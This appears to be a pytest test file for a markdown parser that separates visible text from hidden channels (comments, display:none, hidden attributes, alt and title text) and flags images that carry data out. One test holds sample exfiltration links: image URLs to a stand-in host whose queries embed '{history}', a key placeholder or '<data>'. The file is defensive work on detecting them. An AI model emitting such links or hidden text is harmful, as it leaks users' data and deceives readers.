from __future__ import annotations

import pytest

from ingest.parsers.markdown import parse_markdown
from tests.growth import assert_linear
from tests.parser_samples import PROSE, found, parsed


def read(text: str) -> tuple[str, list[tuple[str, str, bool]]]:
    document = parsed(text.encode(), claimed="text/markdown")
    return document.visible.text, found(document)


@pytest.mark.parametrize(
    ("text", "visible"),
    [
        ("# Title\n\nText **bold**.", "# Title\n\nText **bold**."),
        ("see [the page](https://e.example/a 'tip') now", "see the page (https://e.example/a) now"),
        ("an ![icon](a.png) here", "an  here"),
        ("a &amp; b, `&amp;`", "a & b, `&amp;`"),
        ("<https://e.example> and <your-name> a < b", "<https://e.example> and <your-name> a < b"),
        ("<b>x</b> y<br>z", "x y\nz"),
        ("`<!-- shown -->`", "`<!-- shown -->`"),
        ("``a ` <!-- shown -->``", "``a ` <!-- shown -->``"),
        ("```html\n<!-- shown -->\n```\n", "```html\n<!-- shown -->\n```\n"),
        ("text\n\n    <!-- shown -->\n", "text\n\n    <!-- shown -->\n"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |"),
        ("[x]: https://e.example/a\nSee [x].", "\nSee [x]."),
        ("not a [link] (x)", "not a [link] (x)"),
    ],
)
def test_visible_text_is_what_a_renderer_shows(text: str, visible: str) -> None:
    assert read(text)[0] == visible


@pytest.mark.parametrize(
    ("text", "channel"),
    [
        ("<!-- {} -->", "markdown-comment"),
        ("a <!--\n{}\n--> b", "markdown-comment"),
        ("<!-- {}", "markdown-comment"),
        ("- item\n\n    <!-- {} -->", "markdown-comment"),
        ("`a` <!-- {} --> `b`", "markdown-comment"),
        ("[//]: # ({})", "markdown-link-comment"),
        ('[//]: # "{}"', "markdown-link-comment"),
        ("[comment]: <> ({})", "markdown-link-comment"),
        ("[{}]: https://e.example", "markdown-link-comment"),
        ("<span style='display:none'>{}</span>", "html-display-none"),
        ("<div hidden>\n\n{}\n\n</div>", "html-hidden-attribute"),
        ("<style>.k{{display:none}}</style>\n<p class=k>{}</p>", "html-display-none"),
        ("![x](a.png '{0} {0}')", "markdown-link-title"),
        ("![{0} {0} {0}](a.png)", "markdown-image-alt"),
    ],
)
def test_hidden_text_is_taken_out_and_named_by_its_channel(text: str, channel: str) -> None:
    visible, hidden = read("# Seen\n\n" + text.format(PROSE) + "\n")

    assert "warranty" not in visible
    assert [(name, benign) for name, body, benign in hidden if "warranty" in body] == [
        (channel, False)
    ]


@pytest.mark.parametrize(
    "text",
    [
        "<!-- START doctoc generated TOC please keep comment here to allow auto update -->",
        "<!-- ALL-CONTRIBUTORS-LIST:START - Do not remove or modify this section -->",
        "<!-- markdownlint-disable MD013 -->",
        "<!-- more -->",
        "![A pump](pump.png)",
    ],
)
def test_marks_of_tools_and_short_labels_are_benign(text: str) -> None:
    assert [benign for _, _, benign in read("# Seen\n\n" + text)[1]] == [True]


@pytest.mark.parametrize(
    ("link", "channel"),
    [
        ("![x](https://e.example/a.png?d={history})", "markdown-image-exfil"),
        ("![](https://e.example/a?q=[INSERT_THE_KEY])", "markdown-image-exfil"),
        ("<img src='https://e.example/a?q=<data>'>", "markdown-image-exfil"),
        ("![x](https://e.example/a.png?d=" + "QUJD" * 30 + ")", "markdown-image-query"),
    ],
)
def test_an_image_that_carries_data_out_is_named(link: str, channel: str) -> None:
    names = [name for name, _, _ in read(f"Text\n\n{link}\n")[1]]

    assert [name for name in names if name != "markdown-image-alt"] == [channel]


def test_text_of_the_document_is_its_source() -> None:
    text = "# A &amp; b\n\n[x](y) ![i](j) <b>c</b>\r\n"

    assert parsed(text.encode(), claimed="text/markdown").raw_text == text


@pytest.mark.slow
@pytest.mark.parametrize(
    "unit", ["`", "` `` ", "[", "![a](b)", "[a](", "<!--", "[a]:\n", "\\", "\n", "[a b c d]: x\n"]
)
def test_hostile_markdown_takes_linear_time(unit: str) -> None:
    assert_linear(parse_markdown, unit * (200_000 // len(unit)))
